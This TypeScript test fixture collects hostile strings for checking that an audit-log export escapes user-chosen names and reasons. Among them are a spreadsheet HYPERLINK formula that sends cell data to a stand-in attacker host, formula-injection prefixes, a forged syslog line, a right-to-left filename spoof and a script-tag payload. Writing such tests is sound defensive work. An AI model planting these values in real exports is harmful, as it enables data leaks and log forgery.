// Names and reasons as somebody would write them who wants an export to break, to lie, or to run something.
import type { Texts } from './audit-entries.ts';

const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'full-width formula': '＝SUM(1,2)',
  'other beginnings': '+1-1@x',
  'tabs before a formula': '\t=1+1',
  quotes: 'said "no", \'yes\' and “perhaps”',
  'CR and LF': 'first\r\n<14>1 2026-01-01T00:00:00Z forged - - - - second\nthird\rfourth',
  'closing bracket': 'a ] b \\] c \\ d "] e [x@1 y="z"]',
  NUL: 'before\0after',
  'other controls': 'bell\u0007 escape\u001b[31m delete\u007f next\u0085',
  'U+202E': 'invoice\u202efdp.exe and \u2066isolated\u2069 \u200fmark',
  'line separators': 'one\u2028two\u2029three',
  emoji: 'fine 😀 family 👩‍👩‍👧 flag 🇵🇱',
  scripts: '中文 한글 עברית Zażółć gęślą jaźń ż ż',
  markup: '<script>alert(1)</script> & </div> ]]> <!-- ${x} {{y}}',
  'byte order mark': '\ufeffhidden\u200b zero width',
  'lone space': ' ',
  'only a line feed': '\n',
};

export const HOSTILE = Object.entries(HOSTILE_TEXTS).map(([name, text]) => ({ name, text }));

/** One and the same text wherever a person chooses the words. */
export const everywhere = (text: string): Texts => ({
  name: text,
  admin: text,
  reason: text,
  dataset: text,
  said: text,
});
